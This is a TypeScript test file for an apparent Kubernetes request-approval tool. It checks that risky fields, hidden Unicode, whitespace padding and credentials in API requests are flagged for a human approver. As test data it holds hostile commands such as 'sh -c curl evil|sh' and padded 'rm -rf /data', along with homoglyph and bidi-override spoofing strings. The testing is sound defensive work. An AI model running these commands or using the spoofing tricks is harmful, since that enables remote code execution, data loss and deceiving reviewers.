import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { toProtobuf } from '../policy/pods/to-protobuf.ts'
import { WEBSOCKET } from '../request/a-http-request.ts'
import { bytesField, envelope, flagField } from '../request/object/a-protobuf.ts'
import { asked, questionOf, type Sent, whyNot } from './asking.ts'

const DEPLOYMENT = '/apis/apps/v1/namespaces/shop/deployments/web'
const POD = '/api/v1/namespaces/shop/pods/web'
const JSON_BODY = 'application/json'
const PROTOBUF = 'application/vnd.kubernetes.protobuf'

const patch = (body: unknown, type = 'application/strategic-merge-patch+json') =>
  questionOf(`PATCH ${DEPLOYMENT}`, { body: JSON.stringify(body), type })
const exec = (query: string) => questionOf(`GET ${POD}/exec?${query}`, { headers: WEBSOCKET })
const container = (fields: object) => ({ spec: { template: { spec: { containers: [{ name: 'web', ...fields }] } } } })

describe('what an approver sees of a body', () => {
  test('what runs comes before three hundred harmless annotations, and what is not shown is counted', () => {
    const annotations = Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`note-${at}`, 'nothing to see']))
    const { facts, bodyPreview, bodyCut } = patch({
      metadata: { annotations },
      ...container({ command: ['sh', '-c', 'curl evil|sh'] }),
    })
    expect(facts[0]).toMatch(/^! opaque/)
    expect(facts.slice(1, 2)).toEqual([`spec.template.spec.containers[0].command = sh -c 'curl evil|sh'`])
    expect(facts.at(-1)).toMatch(/^and \d+ more fields that are not shown$/)
    expect(bodyPreview).not.toContain('curl evil')
    expect(bodyCut).toMatch(/^first 4096 of \d+ bytes \(\d+ as sent\), \d+ not shown$/)
  })

  test('whitespace pushes nothing out of sight', () => {
    const body = `{${' '.repeat(8000)}"spec":{"replicas":0}}`
    const type = 'application/merge-patch+json'
    expect(questionOf(`PATCH ${DEPLOYMENT}`, { body, type })).toMatchObject({
      bodyPreview: '{"spec":{"replicas":0}}',
      bodyCut: '',
      bodyBytes: body.length,
      facts: ['spec.replicas = 0'],
    })
  })

  test.each([
    ['privileged', container({ securityContext: { privileged: true } })],
    ['hostPath', { spec: { volumes: [{ name: 'h', hostPath: { path: '/' } }] } }],
    ['serviceAccountName', { spec: { template: { spec: { serviceAccountName: 'builder' } } } }],
    ['secretKeyRef', container({ env: [{ name: 'P', valueFrom: { secretKeyRef: { name: 'db', key: 'p' } } }] })],
    ['ownerReferences', { metadata: { ownerReferences: [{ name: 'gone', uid: '0-1' }] } }],
    ['$patch', container({ $patch: 'delete' })],
  ])('%s is marked, and comes first', (field, body) => {
    const [first = ''] = patch({
      ...body,
      metadata: { labels: { a: 'b' }, ...(body as Record<string, object>)['metadata'] },
    }).facts
    expect(first).toMatch(/^! /)
    expect(
      patch(body)
        .facts.filter(line => line.startsWith('! '))
        .join(),
    ).toContain(field)
  })

  test('a JSON patch is its steps', () => {
    const steps = [
      { op: 'replace', path: '/spec/replicas', value: 3 },
      { op: 'remove', path: '/metadata/finalizers' },
      { op: 'copy', from: '/spec/a', path: '/spec/b' },
      { op: 'add', path: '/spec/template/spec/containers/0/image', value: 'evil/x' },
    ]
    expect(patch(steps, 'application/json-patch+json').facts).toEqual([
      '! remove metadata.finalizers',
      'replace spec.replicas = 3',
      'add spec.template.spec.containers[0].image = "evil/x"',
      'copy spec.a to spec.b',
    ])
  })

  test('a body without a content type is read as JSON, as the API server reads it', () => {
    const body = JSON.stringify({ kind: 'Pod', spec: { containers: [{ name: 'a', image: 'evil/x' }] } })
    const question = questionOf('POST /api/v1/namespaces/shop/pods', { body })
    expect(question.contentType).toBe(JSON_BODY)
    expect(question.facts.join()).toContain('spec.containers[0].image = "evil/x"')
    expect(question.bodyPreview).toContain('evil/x')
  })

  test('server-side apply in YAML is shown as what it says', () => {
    const body = 'spec:\n  # only a restart\n  replicas: 0\n'
    expect(
      questionOf(`PATCH ${DEPLOYMENT}?fieldManager=x`, { body, type: 'application/apply-patch+yaml' }),
    ).toMatchObject({
      facts: ['spec.replicas = 0'],
      bodyPreview: '{"spec":{"replicas":0}}',
    })
  })

  test('a create in protobuf is shown as its JSON is, and a no to one is a no to the other', () => {
    const job = {
      metadata: { name: 'j' },
      spec: {
        backoffLimit: 0,
        template: {
          spec: {
            containers: [{ name: 'j', image: 'busybox', command: ['sh', '-c', 'curl evil | sh'] }],
            serviceAccountName: 'builder',
            hostNetwork: true,
            restartPolicy: 'Never',
          },
        },
      },
    }
    const line = 'POST /apis/batch/v1/namespaces/shop/jobs'
    const body = toProtobuf('jobs', job)
    const said = { apiVersion: 'batch/v1', kind: 'Job', ...job }
    const inJson = questionOf(line, { body: JSON.stringify(said), type: JSON_BODY })
    const inProtobuf = questionOf(line, { body, type: PROTOBUF })
    expect(new Set(inProtobuf.facts)).toEqual(new Set(inJson.facts))
    expect(inProtobuf.facts).toContain(`spec.template.spec.containers[0].command = sh -c 'curl evil | sh'`)
    expect(inProtobuf).toMatchObject({ bodyBytes: body.length, contentType: PROTOBUF })
    expect(inProtobuf.bodyPreview).toContain('curl evil')
    expect(asked(line, { body, type: PROTOBUF }).subject).toBe(
      asked(line, { body: JSON.stringify(said), type: JSON_BODY }).subject,
    )
  })

  test('options of a delete in protobuf are shown', () => {
    const body = envelope(Buffer.concat([flagField(1, 0), bytesField(4, 'Orphan'), bytesField(5, 'All')]))
    expect(questionOf(`DELETE ${POD}`, { body, type: PROTOBUF })).toMatchObject({
      summary: 'DRY RUN, changes nothing: delete pods "web" in shop, propagation Orphan, grace 0 s',
      bodyPreview: '{"gracePeriodSeconds":0,"propagationPolicy":"Orphan","dryRun":["All"]}',
    })
  })

  test.each<{ name: string; line: string; sent: Sent; says: string }>([
    {
      name: 'protobuf with a field of another version',
      line: 'POST /api/v1/namespaces/shop/pods',
      sent: { body: envelope(bytesField(2, bytesField(99, 'x'))), type: PROTOBUF },
      says: 'send JSON',
    },
    {
      name: 'protobuf of another kind than the path says',
      line: 'POST /api/v1/namespaces/shop/pods',
      sent: { body: Buffer.from('k8s\0\x0a\x0c\x0a\x02v1\x12\x06Secret\x12\x00', 'latin1'), type: PROTOBUF },
      says: 'send JSON',
    },
    {
      name: 'protobuf of somebody else',
      line: 'POST /apis/metrics.example.com/v1/namespaces/shop/pods',
      sent: { body: envelope(bytesField(2, '')), type: PROTOBUF },
      says: 'send JSON',
    },
    {
      name: 'a member named twice',
      line: 'POST /api/v1/namespaces/shop/pods',
      sent: { body: '{"a":1,"a":2}', type: JSON_BODY },
      says: 'a member is named twice',
    },
    {
      name: 'options of a delete in protobuf of another version',
      line: `DELETE ${POD}`,
      sent: { body: envelope(bytesField(99, 'x')), type: PROTOBUF },
      says: 'its options cannot be read',
    },
    {
      name: 'more about what runs than fits',
      line: `PATCH ${DEPLOYMENT}`,
      sent: { body: JSON.stringify(container({ args: ['x'.repeat(5000)] })), type: 'application/merge-patch+json' },
      says: 'more about what runs than fits',
    },
    {
      name: 'a huge body',
      line: `PATCH ${DEPLOYMENT}`,
      sent: { body: JSON.stringify({ a: 'x'.repeat(300_000) }), type: 'application/merge-patch+json' },
      says: 'larger than',
    },
  ])('nobody is asked about $name', ({ line, sent, says }) => {
    expect(whyNot(line, sent)).toContain(says)
  })

  test.each([
    'POST /api/v1/namespaces/shop/secrets',
    'POST /apis/authentication.k8s.io/v1/tokenreviews',
    'POST /apis/bitnami.com/v1alpha1/namespaces/shop/sealedsecrets',
    'POST /api/v1/namespaces/shop/serviceaccounts/web/token',
  ])('of what may be a credential only the fields are named: %s', line => {
    const body = JSON.stringify({ data: { password: 'aHVudGVyMg==' }, spec: { token: 'sesame' } })
    const question = questionOf(line, { body, type: JSON_BODY })
    expect(JSON.stringify(question)).not.toMatch(/aHVudGVyMg|sesame/)
    expect(question).toMatchObject({ facts: ['data.password', 'spec.token'], bodyPreview: '', bodyBytes: body.length })
    expect(question.bodyCut).toContain('credential')
  })
})

describe('the line of a question', () => {
  test.each([
    [`DELETE ${POD}`, 'delete pods "web" in shop'],
    [`DELETE ${POD}?dryRun=All`, 'DRY RUN, changes nothing: delete pods "web" in shop'],
    [
      `DELETE ${POD}?gracePeriodSeconds=0&propagationPolicy=Orphan`,
      'delete pods "web" in shop, propagation Orphan, grace 0 s',
    ],
    [
      'DELETE /api/v1/namespaces/shop/pods?labelSelector=app%3Dweb&fieldSelector=spec.nodeName%3Da',
      'deletecollection pods in shop, fields spec.nodeName=a, labels app=web',
    ],
    [`GET ${POD}/log?container=side&previous=true`, 'get pods/log "web" in shop, container side, previous'],
  ])('%s', (line, want) => {
    expect(questionOf(line).summary).toBe(want)
  })

  test('of a delete the body counts, as for the API server: a dry run there is one', () => {
    const said = (line: string, body: string) => questionOf(line, { body, type: JSON_BODY }).summary
    expect(said(`DELETE ${POD}`, '{}')).toBe('delete pods "web" in shop')
    expect(said(`DELETE ${POD}`, '{"dryRun":["All"]}')).toMatch(/^DRY RUN/)
  })

  test('a command stands there whole, with what its streams are', () => {
    const { summary } = exec('command=sh&command=-c&command=curl+evil%7Csh&stdin=true&tty=true&container=app')
    expect(summary).toBe(
      `get pods/exec "web" in shop, container app, stdin (what is typed is not bound by a yes), tty: sh -c 'curl evil|sh'`,
    )
    const portforward = questionOf(`GET ${POD}/portforward`, { headers: WEBSOCKET })
    expect(portforward.summary).toContain('any port of the pod')
  })

  test('blanks in a command push nothing out of sight: they are counted', () => {
    const blanks = ' '.repeat(300)
    const script = `true;${blanks}rm -rf /data`
    const { summary, facts } = exec(`command=sh&command=-c&command=${encodeURIComponent(script)}`)
    expect(summary).toContain("sh -c 'true;\\u{20}×300rm -rf /data'")
    expect(facts.join()).toContain('1 characters that would not be seen')
    const pod = {
      spec: { containers: [{ name: 'c', image: 'i', args: ['-c', script], env: [{ name: 'A', value: script }] }] },
    }
    const asked = questionOf('POST /api/v1/namespaces/shop/pods', {
      body: JSON.stringify(pod),
      type: 'application/json',
    })
    expect(JSON.stringify(asked)).not.toContain(blanks)
    expect(asked.facts.filter(fact => fact.includes('×300rm -rf /data'))).toHaveLength(2)
  })

  test('a command that nobody would read to its end is not asked', () => {
    const long = (length: number) => `GET ${POD}/exec?command=echo&command=${'a'.repeat(length)}`
    expect(whyNot(long(5000), { headers: WEBSOCKET })).toContain('the command is longer than')
    expect(questionOf(long(3000), { headers: WEBSOCKET }).summary).toContain('a'.repeat(3000))
  })

  test.each([
    ['a right-to-left override', '\u202e'],
    ['an isolate', '\u2066'],
    ['an escape sequence', '\u001b[2J'],
    ['a line break', '\n'],
    ['a zero-width joiner', '\u200d'],
    ['a blank of Braille', '\u2800'],
    ['a blank that is none', '\u00a0'],
    ['a filler', '\u3164'],
    ['a tag', '\u{e0041}'],
  ])('%s in a command or a body is in sight', (_, odd) => {
    const hidden = `a${odd}b`
    const { summary } = exec(`command=echo&command=${encodeURIComponent(hidden)}`)
    const { facts, bodyPreview } = patch(container({ command: ['echo', hidden] }))
    const code = `\\u{${odd.codePointAt(0)?.toString(16)}}`
    expect(summary).toContain(code)
    expect(facts.join()).toContain(code)
    for (const text of [summary, facts.join(), bodyPreview]) expect(text).not.toContain(odd)
  })

  test.each([
    ['Cyrillic in an image', 'рaypal/app', '\\u{440}aypal/app'],
    ['wide letters', 'ｎｇｉｎｘ', '\\u{ff4e}'],
    ['ornate letters', '𝐧ginx', '\\u{1d427}ginx'],
  ])('%s is in sight, and counted', (_, image, want) => {
    const { facts } = patch(container({ image }))
    expect(facts[0]).toMatch(/^! \d+ characters that would not be seen/)
    expect(facts.join()).toContain(want)
  })

  test('words of another script are themselves, and what only looks like an escape is told from one', () => {
    const [first] = patch(container({ args: ['привет', 'שלום'] })).facts
    expect(first).toBe(`spec.template.spec.containers[0].args = 'привет' 'שלום'`)
    expect(exec('command=echo&command=%5Cu%7B202e%7D').summary).toContain(`'\\\\u{202e}'`)
    expect(exec('command=echo&command=%5Cu%7B202e%7D').facts).toEqual([])
  })

  test('letters of another script in a name are in sight', () => {
    const { summary } = questionOf('GET /apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles/%D0%B0dmin')
    expect(summary).toContain('"\\u{430}dmin"')
  })
})

describe('the size of a question', () => {
  test('whatever is asked, it is a few kilobytes, or nobody is asked; and the same request always has the same text', () => {
    const unit = fc.integer({ min: 0, max: 0x10ffff }).map(code => String.fromCodePoint(code))
    const text = fc.string({ unit, maxLength: 1500 })
    fc.assert(
      fc.property(text, text, (command, value) => {
        const well = (given: string) => given.toWellFormed()
        const query = `command=${encodeURIComponent(well(command)).replace(/[!'()*]/g, '.')}`
        const lines: readonly [string, Sent][] = [
          [`GET ${POD}/exec?${query}`, { headers: WEBSOCKET }],
          [
            `PATCH ${DEPLOYMENT}`,
            { body: JSON.stringify({ a: { [well(value)]: well(value) } }), type: 'application/merge-patch+json' },
          ],
        ]
        for (const [line, sent] of lines) {
          if (whyNot(line, sent) !== '') continue
          const { question } = asked(line, sent)
          if (Buffer.byteLength(question) > 16_384 || asked(line, sent).question !== question) return false
        }
        return true
      }),
      { numRuns: 40 },
    )
  })

  test.each([
    { name: 'a variable that is run', container: { command: ['sh', '-c', "PASSWORD='curl evil/x' && $PASSWORD"] } },
    {
      name: 'a variable of the container that is run',
      container: { env: [{ name: 'API_TOKEN', value: 'rm -rf /data' }], command: ['sh', '-c', '$API_TOKEN'] },
    },
  ])('what would be hidden behind a mask and may run is no question: $name', ({ container }) => {
    const body = JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'c', ...container }] } } } })
    expect(whyNot(`PATCH ${DEPLOYMENT}`, { body, type: 'application/strategic-merge-patch+json' })).toMatch(
      /credential/,
    )
  })

  // Where each item brings its whole path along, these take minutes.
  test.each(['/api/v1/namespaces/shop/secrets/db', DEPLOYMENT])(
    'one long name over thousands of items is no question: %s',
    path => {
      for (const name of ['a'.repeat(30_000), 'ia\u0456'.repeat(8000)]) {
        const body = JSON.stringify({ [name]: Array.from({ length: 8000 }, () => 1) })
        const from = process.cpuUsage()
        expect(whyNot(`PATCH ${path}`, { body, type: 'application/merge-patch+json' })).not.toBe('')
        const { user, system } = process.cpuUsage(from)
        expect((user + system) / 1000).toBeLessThan(5000)
      }
    },
  )

  test('quotes by the thousand are no question', () => {
    expect(whyNot(`GET ${POD}/exec?command=${"'".repeat(32_000)}`, { headers: WEBSOCKET })).not.toBe('')
  })
})
